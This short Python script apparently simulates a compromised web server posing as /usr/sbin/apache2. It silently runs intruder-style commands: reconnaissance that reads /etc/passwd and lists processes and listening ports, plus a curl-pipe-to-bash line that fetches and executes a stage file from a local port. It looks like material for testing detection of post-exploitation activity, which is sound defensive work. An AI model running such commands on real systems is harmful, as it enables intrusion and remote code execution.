"""A web server with a hole in it: does what the requests of the intruder say. Runs as /usr/sbin/apache2."""

import subprocess
import time

for command in (
    "id; uname -a; cat /etc/passwd; ps aux; ss -ltn",
    "curl -s http://127.0.0.1:28080/stage.txt | bash",
):
    subprocess.run(["/bin/sh", "-c", command], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(3)
